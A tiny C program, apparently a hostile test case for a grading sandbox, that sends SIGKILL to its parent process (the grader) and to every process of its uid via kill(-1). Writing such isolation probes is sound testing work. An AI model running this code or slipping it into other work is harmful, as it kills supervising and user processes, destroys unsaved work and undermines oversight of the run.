/*
 * kill-everyone.c - a run that signals all it can: its parent (the grader,
 * when it has no PID namespace between them) and every process of its uid.
 */
#include <signal.h>
#include <unistd.h>

int main(void)
{
	kill(getppid(), SIGKILL);
	kill(-1, SIGKILL);
	return 0;
}
